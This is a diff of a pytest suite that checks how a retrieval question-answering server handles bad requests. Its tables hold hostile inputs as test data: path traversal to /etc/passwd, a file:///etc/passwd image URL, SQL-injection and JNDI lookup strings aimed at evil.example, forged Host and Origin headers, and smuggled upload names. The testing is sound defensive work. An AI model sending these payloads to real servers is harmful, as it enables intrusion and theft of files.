@@ -1,9 +1,6 @@
-"""Bad requests on a socket: each gets its status in one shape, without a traceback, a leak or a hang."""
+"""Bad requests to the routes: each gets its status in one shape, without a traceback, a leak or a hang."""
 
-import json
-import logging
-import re
-import time
+import shutil
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -13,38 +10,9 @@ import pytest
 pytest.importorskip("fastapi", reason="the extra serve is not installed")
 
 from ragqa import Pipeline
-from ragqa.errors import DamagedArtefact
-from ragqa.serve.json_protocol import JsonProtocol
-from tests.helpers.raw_http import LEAVE, exchange, read_status
+from tests.helpers.bad_requests import QUESTION, SECONDS, FailingPipeline, check_answer, check_error, make, read_json
+from tests.helpers.raw_http import exchange, read_status
 from tests.helpers.serving import open_server
-
-TOKEN = "a-token-of-the-tests"
-QUESTION = "Who built Skarvik Lighthouse?"
-
-
-class HastyConnection(JsonProtocol):
-    """Connection with short limits, so that the tests are fast."""
-
-    header_seconds = 0.4
-
-
-class FailingPipeline:
-    """Pipeline that fails for some questions."""
-
-    def __init__(self, pipeline: Pipeline) -> None:
-        self._pipeline = pipeline
-
-    def __getattr__(self, name: str) -> Any:
-        return getattr(self._pipeline, name)
-
-    def retrieve(self, questions: list[str], **options: Any) -> Any:
-        if "bug" in questions:
-            raise ZeroDivisionError("secret of the server")
-        if "damage" in questions:
-            raise DamagedArtefact("/secret/notes.index is damaged")
-        if "sleep" in questions:
-            time.sleep(1.5)
-        return self._pipeline.retrieve(questions, **options)
 
 
 @pytest.fixture(scope="module")
@@ -52,251 +20,307 @@ def pipelines(index: Path) -> dict[str, Any]:
     return {"documents": FailingPipeline(Pipeline.load(index))}
 
 
-LIMITS = {"body_seconds": 0.5, "send_seconds": 0.5, "linger_seconds": 0.3, "request_seconds": 1.0}
-
-
 @pytest.fixture(scope="module")
 def port(pipelines: dict[str, Any]) -> Iterator[int]:
-    with open_server(pipelines, HastyConnection, **LIMITS) as port:
+    with open_server(pipelines) as port:
         yield port
 
 
 @pytest.fixture(scope="module")
-def guarded_port(pipelines: dict[str, Any]) -> Iterator[int]:
-    with open_server(pipelines, HastyConnection, token=TOKEN, can_edit=True, **LIMITS) as port:
-        yield port
-
-
-def make(
-    line: str, body: Any = None, *headers: str, host: str = "localhost", type: str | None = "application/json"
-) -> bytes:
-    """Return a request; a body that is not bytes is sent as JSON."""
-    content = b"" if body is None else body if isinstance(body, bytes) else json.dumps(body).encode()
-    lines = [f"{line} HTTP/1.1", f"Host: {host}", f"Content-Length: {len(content)}", *headers]
-    if body is not None and type:
-        lines.append(f"Content-Type: {type}")
-    return "\r\n".join(lines).encode("latin-1") + b"\r\n\r\n" + content
+def editable(tmp_path_factory: pytest.TempPathFactory, index: Path) -> Iterator[tuple[int, Path]]:
+    """Yield the port of a server that changes documents, and its index."""
+    copy = tmp_path_factory.mktemp("editable") / index.name
+    shutil.copytree(index, copy)
+    with open_server({"documents": Pipeline.load(copy)}, can_edit=True, linger_seconds=0.3) as port:
+        yield port, copy
 
 
 def ask(**row: Any) -> bytes:
     return make("POST /ask", {"question": QUESTION, **row})
 
 
-START = b"POST /ask HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
-CHUNKED = START + b"Transfer-Encoding: chunked\r\n\r\n"
-GOOD = make("GET /search?q=bread&k=1")
+def chat(*messages: Any, **row: Any) -> bytes:
+    return make("POST /v1/chat/completions", {"model": "documents", "messages": list(messages), **row})
 
-Parts = list[bytes | float]
-REQUESTS: dict[str, tuple[int | None, Parts]] = {
-    # what is sent, and the status that answers it: none if the connection is closed
-    "no JSON": (400, [make("POST /ask", b"what?")]),
-    "empty body": (400, [make("POST /ask", b"")]),
-    "no type of the body": (400, [make("POST /ask", {"question": "a"}, type=None)]),
-    "a form": (400, [make("POST /ask", b"question=a", type="application/x-www-form-urlencoded")]),
-    "plain text, as a form of another page can send": (400, [make("POST /ask", {"question": "a"}, type="text/plain")]),
-    "not UTF-8": (400, [make("POST /ask", b'{"question": "\xff"}')]),
-    "UTF-16": (400, [make("POST /ask", '{"question": 7}'.encode("utf-16"))]),
-    "deep lists": (400, [make("POST /ask", b"[" * 200_000)]),
-    "deep objects": (400, [make("POST /ask", b'{"question":' * 100_000)]),
-    "a list": (400, [make("POST /ask", [])]),
-    "a text": (400, [make("POST /ask", "question")]),
-    "no question": (400, [make("POST /ask", {})]),
-    "unknown key": (400, [ask(temperature=1)]),
-    "null question": (400, [ask(question=None)]),
-    "question as number": (400, [ask(question=7)]),
-    "question as list": (400, [ask(question=["a"])]),
-    "empty question": (400, [ask(question="")]),
-    "question of spaces": (400, [ask(question="  \n ")]),
-    "question of controls": (400, [ask(question="\x00\x1b")]),
-    "question of 10,001 characters": (400, [ask(question="a" * 10_001)]),
-    "lone surrogate": (400, [make("POST /ask", b'{"question": "a\\ud800"}')]),
-    "k of 0": (400, [ask(k=0)]),
-    "negative k": (400, [ask(k=-1)]),
-    "huge k": (400, [ask(k=10**18)]),
-    "k of 101": (400, [ask(k=101)]),
-    "k as text": (400, [ask(k="1")]),
-    "k as truth": (400, [ask(k=True)]),
-    "k with a fraction": (400, [ask(k=1.5)]),
-    "long number": (400, [make("POST /ask", b'{"question": "a", "k": ' + b"9" * 10_000 + b"}")]),
-    "NaN as confidence": (400, [make("POST /ask", b'{"question": "a", "min_confidence": NaN}')]),
-    "infinite confidence": (400, [make("POST /ask", b'{"question": "a", "min_confidence": 1e999}')]),
-    "confidence above 1": (400, [ask(min_confidence=1.01)]),
-    "stream as text": (400, [ask(stream="yes")]),
-    "filter as text": (400, [ask(filter="work")]),
-    "paths as text": (400, [ask(filter={"paths": "work"})]),
-    "a filter of the home directory": (400, [ask(filter={"paths": ["~/x"]})]),
-    "a filter of the server's directory": (400, [ask(filter={"paths": ["./x"]})]),
-    "21 patterns": (400, [ask(filter={"paths": ["a"] * 21})]),
-    "a long pattern": (400, [ask(filter={"paths": ["*a" * 200]})]),
-    "since no date": (400, [ask(filter={"since": "yesterday"})]),
-    "21 turns": (400, [ask(turns=[{"question": "a"}] * 21)]),
-    "a turn without a question": (400, [ask(turns=[{"answer": "a"}])]),
-    "an empty earlier question": (400, [ask(turns=[{"question": " "}])]),
-    "unknown index": (404, [ask(index="../../etc")]),
-    "index as path": (404, [make("GET /search?q=a&index=%2Fetc")]),
-    "search without a question": (400, [make("GET /search")]),
-    "search for nothing": (400, [make("GET /search?q=")]),
-    "search with a huge k": (400, [make("GET /search?q=a&k=1001")]),
-    "search with a word as k": (400, [make("GET /search?q=a&k=ten")]),
-    "negative first document": (400, [make("GET /documents?first=-1")]),
-    "limit of 0": (400, [make("GET /documents?limit=0")]),
-    "limit of a million": (400, [make("GET /documents?limit=1000000")]),
-    "a file of the machine": (404, [make("GET /documents/%2Fetc%2Fpasswd")]),
-    "a file of the machine, plainly": (404, [make("GET /documents//etc/passwd")]),
-    "traversal in an id": (404, [make("GET /documents/..%2F..%2Fetc%2Fpasswd")]),
-    "zero byte in an id": (404, [make("GET /documents/a%00b")]),
-    "invalid UTF-8 in an id": (404, [make("GET /documents/%ff%fe")]),
-    "huge start of a span": (400, [make("GET /documents/a?start=99999999999999999999")]),
-    "traversal": (404, [make("GET /../../etc/passwd")]),
-    "encoded traversal": (404, [make("GET /%2e%2e/%2e%2e/etc/passwd")]),
-    "double encoded traversal": (404, [make("GET /%252e%252e/app.py")]),
-    "traversal with backslashes": (404, [make("GET /..%5c..%5capp.py")]),
-    "source of the server": (404, [make("GET /../app.py")]),
-    "zero byte in the page's name": (404, [make("GET /index.html%00")]),
-    "a long name of the page": (404, [make("GET /" + "a" * 5000)]),
-    "escapes in the path": (404, [make("GET /%1b%5b31m%0d%0aX:y")]),
-    "documentation pages that load scripts": (404, [make("GET /docs")]),
-    "wrong method": (404, [make("GET /ask")]),
-    "invented method": (405, [make("FROB /ask")]),
-    "TRACE": (405, [make("TRACE /ask")]),
-    "proxy": (404, [make("CONNECT evil.example:443")]),
-    "absolute address": (404, [make("GET http://evil.example/healthz")]),
-    "web socket": (404, [make("GET /ws", None, "Upgrade: websocket", "Connection: Upgrade")]),
-    "document without leave": (403, [make("POST /documents?name=a.md", b"# a\n\ntext")]),
-    "deletion without leave": (403, [make("DELETE /documents/a")]),
-    "no messages": (400, [make("POST /v1/chat/completions", {"model": "documents"})]),
-    "messages as text": (400, [make("POST /v1/chat/completions", {"model": "documents", "messages": "a"})]),
-    "1,001 messages": (
+
+def user(content: Any) -> dict[str, Any]:
+    return {"role": "user", "content": content}
+
+
+def retrieve(queries: Any, **row: Any) -> bytes:
+    return make("POST /retrieve", {"queries": queries, **row})
+
+
+REQUESTS: dict[str, tuple[int, bytes]] = {
+    # what is sent, and the status that answers it
+    "no JSON": (400, make("POST /ask", b"what?")),
+    "empty body": (400, make("POST /ask", b"")),
+    "no type of the body": (400, make("POST /ask", {"question": "a"}, type=None)),
+    "a form": (400, make("POST /ask", b"question=a", type="application/x-www-form-urlencoded")),
+    "plain text, as a form of another page can send": (400, make("POST /ask", {"question": "a"}, type="text/plain")),
+    "not UTF-8": (400, make("POST /ask", b'{"question": "\xff"}')),
+    "UTF-16": (400, make("POST /ask", '{"question": 7}'.encode("utf-16"))),
+    "deep lists": (400, make("POST /ask", b"[" * 200_000)),
+    "deep objects": (400, make("POST /ask", b'{"question":' * 100_000)),
+    "a list": (400, make("POST /ask", [])),
+    "a text": (400, make("POST /ask", "question")),
+    "no question": (400, make("POST /ask", {})),
+    "unknown key": (400, ask(temperature=1)),
+    "null question": (400, ask(question=None)),
+    "question as number": (400, ask(question=7)),
+    "question as list": (400, ask(question=["a"])),
+    "empty question": (400, ask(question="")),
+    "question of spaces": (400, ask(question="  \n ")),
+    "question of controls": (400, ask(question="\x00\x1b")),
+    "question of 10,001 characters": (400, ask(question="a" * 10_001)),
+    "lone surrogate": (400, make("POST /ask", b'{"question": "a\\ud800"}')),
+    "k of 0": (400, ask(k=0)),
+    "negative k": (400, ask(k=-1)),
+    "huge k": (400, ask(k=10**18)),
+    "k of 101": (400, ask(k=101)),
+    "k as text": (400, ask(k="1")),
+    "k as truth": (400, ask(k=True)),
+    "k with a fraction": (400, ask(k=1.5)),
+    "long number": (400, make("POST /ask", b'{"question": "a", "k": ' + b"9" * 10_000 + b"}")),
+    "NaN as confidence": (400, make("POST /ask", b'{"question": "a", "min_confidence": NaN}')),
+    "infinite confidence": (400, make("POST /ask", b'{"question": "a", "min_confidence": 1e999}')),
+    "confidence above 1": (400, ask(min_confidence=1.01)),
+    "stream as text": (400, ask(stream="yes")),
+    "filter as text": (400, ask(filter="work")),
+    "paths as text": (400, ask(filter={"paths": "work"})),
+    "a filter of the home directory": (400, ask(filter={"paths": ["~/x"]})),
+    "a filter of the server's directory": (400, ask(filter={"paths": ["./x"]})),
+    "21 patterns": (400, ask(filter={"paths": ["a"] * 21})),
+    "a long pattern": (400, ask(filter={"paths": ["*a" * 200]})),
+    "since no date": (400, ask(filter={"since": "yesterday"})),
+    "21 turns": (400, ask(turns=[{"question": "a"}] * 21)),
+    "a turn without a question": (400, ask(turns=[{"answer": "a"}])),
+    "an empty earlier question": (400, ask(turns=[{"question": " "}])),
+    "unknown index": (404, ask(index="../../etc")),
+    "index as path": (404, make("GET /search?q=a&index=%2Fetc")),
+    "search without a question": (400, make("GET /search")),
+    "search for nothing": (400, make("GET /search?q=")),
+    "search with a huge k": (400, make("GET /search?q=a&k=1001")),
+    "search with a word as k": (400, make("GET /search?q=a&k=ten")),
+    "negative first document": (400, make("GET /documents?first=-1")),
+    "limit of 0": (400, make("GET /documents?limit=0")),
+    "limit of a million": (400, make("GET /documents?limit=1000000")),
+    "a file of the machine": (404, make("GET /documents/%2Fetc%2Fpasswd")),
+    "a file of the machine, plainly": (404, make("GET /documents//etc/passwd")),
+    "traversal in an id": (404, make("GET /documents/..%2F..%2Fetc%2Fpasswd")),
+    "zero byte in an id": (404, make("GET /documents/a%00b")),
+    "invalid UTF-8 in an id": (404, make("GET /documents/%ff%fe")),
+    "huge start of a span": (400, make("GET /documents/a?start=99999999999999999999")),
+    "traversal": (404, make("GET /../../etc/passwd")),
+    "encoded traversal": (404, make("GET /%2e%2e/%2e%2e/etc/passwd")),
+    "double encoded traversal": (404, make("GET /%252e%252e/app.py")),
+    "traversal with backslashes": (404, make("GET /..%5c..%5capp.py")),
+    "source of the server": (404, make("GET /../app.py")),
+    "zero byte in the page's name": (404, make("GET /index.html%00")),
+    "a long name of the page": (404, make("GET /" + "a" * 5000)),
+    "escapes in the path": (404, make("GET /%1b%5b31m%0d%0aX:y")),
+    "documentation pages that load scripts": (404, make("GET /docs")),
+    "wrong method": (405, make("GET /ask")),
+    "document without leave": (403, make("POST /documents?name=a.md", b"# a\n\ntext")),
+    "deletion without leave": (403, make("DELETE /documents/a")),
+    "two values": (400, make("POST /ask", b'{"question": "a"}{"question": "b"}')),
+    "a key twice": (400, make("POST /ask", b'{"question": "a", "question": 7}')),
+    "a comment": (400, make("POST /ask", b'{"question": "a" /* b */}')),
+    "single quotes": (400, make("POST /ask", b"{'question': 'a'}")),
+    "a type that begins alike": (400, make("POST /ask", {"question": "a"}, type="application/jsonx")),
+    "two types, the first a form's": (400, make("POST /ask", {"question": "a"}, "Content-Type: text/plain")),
+    "a form with parts": (400, make("POST /ask", b"--x\r\n\r\n--x--", type="multipart/form-data; boundary=x")),
+    "200,000 unknown keys": (400, ask(**{f"k{number}": 1 for number in range(200_000)})),
+    "an unknown key of a million characters": (400, ask(**{"k" * 10**6: 1})),
+    "an unknown key of control characters": (400, ask(**{"\x1b[31m\r\nX: y": 1})),
+    "a key of JavaScript objects": (400, ask(__proto__={"k": 1})),
+    "an unknown key of a filter": (400, ask(filter={"path": "a"})),
+    "an unknown key of a turn": (400, ask(turns=[{"question": "a", "id": 1}])),
+    "a lone surrogate in an earlier answer": (
         400,
-        [
-            make(
-                "POST /v1/chat/completions",
-                {"model": "documents", "messages": [{"role": "user", "content": "a"}] * 1001},
-            )
-        ],
+        make("POST /ask", b'{"question": "a", "turns": [{"question": "a", "answer": "\\ud800"}]}'),
     ),
-    "queries as text": (400, [make("POST /retrieve", {"queries": "a"})]),
-    "10,001 queries": (400, [make("POST /retrieve", {"queries": ["a"] * 10_001})]),
-    "declared 600 MB": (413, [START + b"Content-Length: 629145600\r\n\r\n", b"a" * 100_000]),
-    "17 MB in chunks": (413, [CHUNKED, *[b"100000\r\n" + b" " * (1 << 20) + b"\r\n"] * 17]),
-    "body cut short": (None, [START + b"Content-Length: 100\r\n\r\n", b"{}", LEAVE]),
-    "dripping body": (408, [START + b"Content-Length: 100\r\n\r\n", *[b" ", 0.1] * 8]),
-    "no body at all": (408, [START + b"Content-Length: 100\r\n\r\n", 0.8]),
-    "dripping headers": (None, [b"POST /ask HTTP/1.1\r\n", *[b"A: b\r\n", 0.1] * 8]),
-    "silence": (None, [0.8]),
-    "40 kB of headers": (400, [make("GET /healthz", None, "A: " + "b" * 40_000)]),
-    "endless headers": (400, [b"GET /healthz HTTP/1.1\r\n" + b"A: " + b"b" * 100_000]),
-    "negative length": (400, [START + b"Content-Length: -1\r\n\r\n"]),
-    "two lengths": (400, [START + b"Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}"]),
-    "length and chunks": (400, [START + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"]),
-    "no HTTP": (400, [b"SSH-2.0-OpenSSH_9.6\r\n\r\n"]),
-    "no host": (400, [b"GET /healthz HTTP/1.0\r\n\r\n"]),
-    "two hosts": (400, [make("GET /healthz", None, "Host: evil.example")]),
-    "foreign host": (421, [make("GET /healthz", host="evil.example")]),
-    "host that begins alike": (421, [make("GET /healthz", host="localhost.evil.example")]),
-    "empty host": (421, [make("GET /healthz", host="")]),
-    "forwarded host": (421, [make("GET /healthz", None, "X-Forwarded-Host: localhost", host="evil.example")]),
-    "foreign origin": (403, [make("GET /healthz", None, "Origin: https://evil.example")]),
-    "origin of another port": (403, [make("GET /healthz", None, "Origin: http://localhost:3000")]),
-    "null origin": (403, [make("GET /healthz", None, "Origin: null")]),
-    "invalid origin": (403, [make("GET /healthz", None, "Origin: http://[x")]),
-    "a bug": (500, [ask(question="bug")]),
-    "a damaged index": (503, [ask(question="damage")]),
-    "an answer that takes too long": (504, [ask(question="sleep")]),
-    "own origin": (200, [make("GET /healthz", None, "Origin: http://localhost")]),
-    "own address": (200, [make("GET /healthz", host="127.0.0.1:1")]),
-    "trailing dot of the host": (200, [make("GET /healthz", host="LOCALHOST.:8000")]),
+    "an earlier answer of 100,001 characters": (400, ask(turns=[{"question": "a", "answer": "b" * 100_001}])),
+    "a zero byte as a question": (400, make("GET /search?q=%00")),
+    "21 patterns in an address": (400, make("GET /search?q=a" + "&path=a" * 21)),
+    "a filter of the home directory in an address": (400, make("GET /search?q=a&path=~/x")),
+    "an empty pattern": (400, make("GET /search?q=a&path=")),
+    "a month that does not exist": (400, make("GET /search?q=a&since=2024-13-45")),
+    "more days than there are": (400, make("GET /search?q=a&since=99999999999999d")),
+    "a first document beyond all numbers": (400, make("GET /documents?first=2199023255552")),
+    "a zero byte as an index": (404, make("GET /documents?index=%00")),
+    "no id": (404, make("GET /documents/")),
+    "an id that is no valid escape": (404, make("GET /documents/%zz")),
+    "an id of 30,000 characters": (404, make("GET /documents/" + "a" * 30_000)),
+    "a span that ends below 0": (400, make("GET /documents/a?end=-1")),
+    "a span that begins within a character": (400, make("GET /documents/a?start=1.5")),
+    "traversal in overlong UTF-8": (404, make("GET /%c0%ae%c0%ae/etc/passwd")),
+    "a path in upper case": (404, make("GET /HEALTHZ")),
+    "a file of the page as a folder": (404, make("GET /main.js/")),
+    "the folder of the page": (404, make("GET /page/")),
+    "no messages": (400, make("POST /v1/chat/completions", {"model": "documents"})),
+    "an empty list of messages": (400, chat()),
+    "messages as text": (400, make("POST /v1/chat/completions", {"model": "documents", "messages": "a"})),
+    "a message as text": (400, chat("a")),
+    "a message without a role": (400, chat({"content": "a"})),
+    "only instructions": (400, chat({"role": "system", "content": "a"})),
+    "a message without content": (400, chat(user(None))),
+    "content as number": (400, chat(user(7))),
+    "content as an object": (400, chat(user({"type": "text", "text": "a"}))),
+    "only an image": (400, chat(user([{"type": "image_url", "image_url": {"url": "file:///etc/passwd"}}]))),
+    "a part without a type": (400, chat(user([{"text": "a"}]))),
+    "a part whose text is a number": (400, chat(user([{"type": "text", "text": 5}]))),
+    "101 parts": (400, chat(user([{"type": "text", "text": "a"}] * 101))),
+    "parts of 10 MB": (400, chat(user([{"type": "text", "text": "a " * 50_000}] * 100))),
+    "a message of 100,001 characters": (400, chat(user("a" * 100_001))),
+    "a last message of control characters": (400, chat(user("\x00\x1b"))),
+    "100,000 wrong parts": (400, chat(*[user([{"a": 1}] * 100)] * 1000)),
+    "1,001 messages": (400, chat(*[user("a")] * 1001)),
+    "a model of the service": (404, chat(user("a"), model="gpt-4o")),
+    "a model as path": (404, chat(user("a"), model="../../etc/passwd")),
+    "a model as number": (400, chat(user("a"), model=7)),
+    "two choices": (400, chat(user("a"), n=2)),
+    "options of a stream as text": (400, chat(user("a"), stream=True, stream_options="a")),
+    "a lone surrogate in a message": (
+        400,
+        make(
+            "POST /v1/chat/completions", b'{"model": "documents", "messages": [{"role": "user", "content": "\\udc00"}]}'
+        ),
+    ),
+    "a route of OpenAI's that is not here": (404, make("POST /v1/embeddings", {"model": "documents", "input": "a"})),
+    "models by another method": (405, make("POST /v1/models", {})),
+    "no queries": (400, make("POST /retrieve", {})),
+    "a list of queries alone": (400, make("POST /retrieve", ["a"])),
+    "queries as text": (400, retrieve("a")),
+    "a null among queries": (400, retrieve(["a", None])),
+    "10,000 queries as numbers": (400, retrieve([7] * 10_000)),
+    "10,001 queries": (400, retrieve(["a"] * 10_001)),
+    "topk of 0": (400, retrieve(["a"], topk=0)),
+    "topk of 1,001": (400, retrieve(["a"], topk=1001)),
+    "topk as text": (400, retrieve(["a"], topk="3")),
+    "topk as truth": (400, retrieve(["a"], topk=True)),
+    "scores as text": (400, retrieve(["a"], return_scores="yes")),
+    "ten million passages": (400, retrieve(["a"] * 10_000, topk=1000)),
+    "queries for an unknown index": (404, make("POST /retrieve?index=..%2F", {"queries": ["a"]})),
+    "queries in an address": (405, make("GET /retrieve?queries=a")),
+    "deep queries": (400, make("POST /retrieve", b'{"queries": ' + b"[" * 100_000)),
+    "a damaged index": (503, ask(question="damage")),
 }
-SECRETS = re.compile(rb"Traceback|secret|site-packages|\.py\b|root:x|/etc/|\x1b")
-
-
-def check_error(answer: bytes, status: int) -> dict[str, Any]:
-    """Check that an answer is an error in the one shape, with all headers, and without secrets; return it."""
-    head, _, body = answer.partition(b"\r\n\r\n")
-    assert b"x-content-type-options: nosniff" in head and b"content-security-policy: default-src 'none'" in head
-    assert b"access-control-allow-origin" not in head
-    row = json.loads(body)
-    assert set(row) == {"error"} and set(row["error"]) == {"message", "type"}
-    assert row["error"]["message"] and "\n" not in row["error"]["message"] and len(row["error"]["message"]) < 400
-    assert (b"retry-after: 1" in head) == (status in (429, 503))
-    return row["error"]
 
 
 @pytest.mark.parametrize("name", REQUESTS)
-def test_bad_requests_get_their_status_and_leave_the_server_well(
-    port: int, name: str, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+def test_bad_requests_get_their_status(
+    port: int, name: str, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
 ) -> None:
-    monkeypatch.setattr(logging.getLogger("ragqa.serve"), "disabled", True)  # it logs bugs, with their traceback
-    status, parts = REQUESTS[name]
-    start = time.perf_counter()
-    answer = exchange(port, *parts)
-    assert read_status(answer) == status, answer[-300:]
-    assert not SECRETS.search(answer)
-    if status not in (None, 200):
-        check_error(answer, status)
-    assert time.perf_counter() - start < 5
+    status, request = REQUESTS[name]
+    check_error(check_answer(port, [request], status, caplog), status)
     printed = capfd.readouterr()
     assert "Traceback" not in printed.err + printed.out
-    assert read_status(exchange(port, GOOD)) == 200
 
 
-def with_token(*values: str) -> bytes:
-    return make("GET /documents", None, *(f"Authorization: {value}" for value in values))
-
-
-GUARDED: dict[str, tuple[int, bytes]] = {
-    "no token": (401, with_token()),
-    "another token": (401, with_token("Bearer b-token-of-the-tests")),
-    "the beginning of the token": (401, with_token(f"Bearer {TOKEN[:-1]}")),
-    "the token and more": (401, with_token(f"Bearer {TOKEN}x")),
-    "an empty token": (401, with_token("Bearer ")),
-    "only the word": (401, with_token("Bearer")),
-    "another scheme": (401, with_token(f"Basic {TOKEN}")),
-    "no scheme": (401, with_token(TOKEN)),
-    "the token in upper case": (401, with_token(f"Bearer {TOKEN.upper()}")),
-    "two headers": (401, with_token(f"Bearer {TOKEN}", "Bearer x")),
-    "bytes that are no text": (401, with_token("Bearer \xff\xfe")),
-    "the token in the address": (401, make(f"GET /documents?token={TOKEN}")),
-    "the token as a cookie": (401, make("GET /documents", None, f"Cookie: token={TOKEN}")),
-    "a route that does not exist": (401, make("GET /nothing")),
-    "a path that begins like a public one": (401, make("GET /healthz/../documents")),
-    "a public path twice": (401, make("GET //healthz")),
-    "an upload": (401, make("POST /documents?name=a.md", b"text")),
-    "a deletion": (401, make("DELETE /documents/a")),
-    "the preflight of a browser": (
-        401,
-        make("OPTIONS /ask", None, "Origin: https://a.example", "Access-Control-Request-Method: POST"),
+ODD: dict[str, bytes] = {
+    # questions that are odd, but are answered
+    "9,000 emoji": ask(question="\U0001f600" * 9000),
+    "9,000 marks of direction": ask(question="\u202e" * 9000),
+    "9,900 accents on a letter": ask(question="a" + "\u0301" * 9900),
+    "10,000 question marks": ask(question="?" * 10_000),
+    "5,000 brackets": ask(question="(" * 5000),
+    "the syntax of queries": ask(question='a" OR 1=1; DROP TABLE x; -- title:* ^~ NEAR/3 \\'),
+    "the syntax of formats": ask(question="{0.__class__} %s %n ${jndi:ldap://evil.example}"),
+    "a pattern of many stars": ask(filter={"paths": ["*a" * 140]}),
+    "a pattern of many folders": ask(filter={"paths": ["**/" * 90]}),
+    "a pattern of open brackets": ask(filter={"paths": ["[a-" * 90]}),
+    "a pattern with a zero byte": ask(filter={"paths": ["a\0b"]}),
+    "a tag of control characters": ask(filter={"tags": ["\x1b[31m"]}),
+    "20 turns of pronouns and names": ask(
+        question="Did he do it?",
+        turns=[{"question": "he it " * 1600, "answer": "Ada Holm " * 11_000, "title": "B " * 50}] * 20,
     ),
-    "a body of 600 MB": (401, START + b"Content-Length: 629145600\r\n\r\n"),
-    "the token": (200, with_token(f"Bearer {TOKEN}")),
-    "the token, and the scheme in lower case": (200, with_token(f"bearer {TOKEN}")),
-    "the page": (200, make("GET /")),
-    "the state": (200, make("GET /healthz")),
-    "another name of the server": (200, make("GET /healthz", host="rag.example")),
+    "a file of the machine as an image": chat(
+        user([{"type": "image_url", "image_url": {"url": "file:///etc/passwd"}}, {"type": "text", "text": QUESTION}])
+    ),
+    "an earlier answer of many citations": chat(
+        user("a"), {"role": "assistant", "content": "[1]" * 33_000 + "x"}, user(QUESTION)
+    ),
+    "an earlier answer of backslashes": chat(
+        user("a"), {"role": "assistant", "content": "\\" * 99_000}, user(QUESTION)
+    ),
+    "a query with a lone surrogate": make("POST /retrieve", b'{"queries": ["a\\ud800", "\\udc00"]}'),
+    "a query of a megabyte": retrieve(["bread " * 170_000]),
+    "queries without words": retrieve(["", " \n", "\0\x1b"]),
 }
 
 
-@pytest.mark.parametrize("name", GUARDED)
-def test_requests_need_the_token(guarded_port: int, name: str) -> None:
-    status, request = GUARDED[name]
-    answer = exchange(guarded_port, request)
-    assert read_status(answer) == status and TOKEN.encode() not in answer
-    if status == 401:
-        assert check_error(answer, 401)["type"] == "authentication_error" and b"www-authenticate: Bearer" in answer
+@pytest.mark.parametrize("name", ODD)
+def test_odd_questions_are_answered_in_time(port: int, name: str, caplog: pytest.LogCaptureFixture) -> None:
+    answer = check_answer(port, [ODD[name]], 200, caplog)
+    assert b"HTTP/1.1 200" in answer and (b'"question"' in answer or b'"choices"' in answer or b'"result"' in answer)
 
 
-def test_the_state_names_indexes_only_to_those_who_have_the_token(guarded_port: int) -> None:
-    rows = []
-    for headers in ((), (f"Authorization: Bearer {TOKEN}",)):
-        rows.append(json.loads(exchange(guarded_port, make("GET /healthz", None, *headers)).partition(b"\r\n\r\n")[2]))
-    assert rows[0] == {"status": "ok", "needs_token": True}
-    assert rows[1]["indexes"][0]["name"] == "documents" and rows[1]["can_edit"]
+def test_a_bug_is_in_the_log_only(port: int, caplog: pytest.LogCaptureFixture) -> None:
+    answer = check_answer(port, [ask(question="bug")], 500, caplog, logged=True)
+    assert "bug" in check_error(answer, 500)["message"]
+    assert [record.name for record in caplog.records if record.exc_info] == ["ragqa.serve"]
 
 
-def test_uploads_have_limits(guarded_port: int, index: Path) -> None:
-    start = f"POST /documents?name=a.md HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {TOKEN}\r\n".encode()
-    assert read_status(exchange(guarded_port, start + b"Content-Length: 67108865\r\n\r\n")) == 413
-    for name in ("", "..", ".a", "a%2Fb.md", "..%2Fa.md", "a%00.md", "a" * 201):
-        request = make(f"POST /documents?name={name}", b"text", f"Authorization: Bearer {TOKEN}")
-        assert read_status(exchange(guarded_port, request)) == 400
-    assert not index.with_name(f"{index.name}.uploads").exists()
+def test_an_answer_that_takes_too_long_is_given_up(pipelines: dict[str, Any], caplog: pytest.LogCaptureFixture) -> None:
+    with open_server(pipelines, request_seconds=0.5) as port:
+        answer = exchange(port, ask(question="sleep"), timeout=SECONDS)
+    assert read_status(answer) == 504 and check_error(answer, 504)["type"] == "timeout_error"
+
+
+def test_a_wrong_method_is_answered_with_all_methods_of_the_path(port: int) -> None:
+    for request, methods in {
+        "GET /ask": b"POST",
+        "PUT /documents": b"GET, POST",
+        "PATCH /documents/a": b"DELETE, GET",
+        "POST /": b"GET, HEAD",
+        "DELETE /openapi.json": b"GET, HEAD",
+    }.items():
+        answer = exchange(port, make(request))
+        assert read_status(answer) == 405 and b"\r\nallow: " + methods + b"\r\n" in answer
+        assert methods.decode() in check_error(answer, 405)["message"]
+
+
+UPLOADS: dict[str, tuple[int, bytes]] = {
+    "no name": (400, make("POST /documents", b"text")),
+    **{
+        f"the name {name or 'of no letter'}": (400, make(f"POST /documents?name={name}", b"text"))
+        for name in (
+            "",
+            "..",
+            ".a",
+            "a%2Fb.md",
+            "..%2Fa.md",
+            "..%5Ca.md",
+            "a%00.md",
+            "a%0a.md",
+            "%e2%80%ae.md",
+            "a" * 201,
+        )
+    },
+    "a file of an unknown kind": (400, make("POST /documents?name=a.exe", b"MZ\0\0")),
+    "an empty file": (400, make("POST /documents?name=a.md", b"")),
+    "a PDF that is none": (400, make("POST /documents?name=a.pdf", b"%PDF-1.7\n" + b"\0" * 1000)),
+    "a text that is none": (400, make("POST /documents?name=a.txt", bytes(range(256)) * 20)),
+    "an archive that is none": (400, make("POST /documents?name=a.docx", b"PK\3\4" + b"\xff" * 1000)),
+    "a file for an unknown index": (404, make("POST /documents?name=a.md&index=b", b"text")),
+    "a file of 64 MB and a byte": (
+        413,
+        b"POST /documents?name=a.md HTTP/1.1\r\nHost: localhost\r\nContent-Length: 67108865\r\n\r\n",
+    ),
+    "deletion of what is not there": (404, make("DELETE /documents/nothing.md")),
+    "deletion by traversal": (404, make("DELETE /documents/..%2F..%2Fetc%2Fpasswd")),
+    "deletion of the whole list": (405, make("DELETE /documents")),
+}
+
+
+@pytest.mark.parametrize("name", UPLOADS)
+def test_bad_changes_change_nothing(editable: tuple[int, Path], name: str, caplog: pytest.LogCaptureFixture) -> None:
+    port, index = editable
+    before = read_json(exchange(port, make("GET /documents"), timeout=SECONDS))
+    status, request = UPLOADS[name]
+    check_error(check_answer(port, [request], status, caplog), status)
